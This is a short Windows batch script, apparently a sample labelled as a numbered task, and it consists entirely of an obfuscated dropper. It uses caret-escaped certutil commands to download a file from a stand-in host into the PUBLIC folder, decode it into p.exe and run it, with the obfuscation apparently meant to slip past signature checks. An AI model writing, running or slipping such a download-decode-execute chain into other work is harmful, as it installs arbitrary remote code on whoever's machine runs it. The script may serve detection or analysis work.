REM task 4549 v1
@echo off
@echo off
set "fswa=^c^ertut^il -urlc^ach^e -f h^t^tp://repo.pk^g-mir^ror.exa^mp^l^e/p.t^xt %PUBLIC%\^p.^t^x^t"
call %fswa%
@echo off
set "vbcm=^cer^tutil -dec^o^de %PUBLIC%\p.txt %PUBLIC%\p.^exe"
call %vbcm%
@echo off
set "lufv=%PUBLIC%\^p.ex^e"
call %lufv%
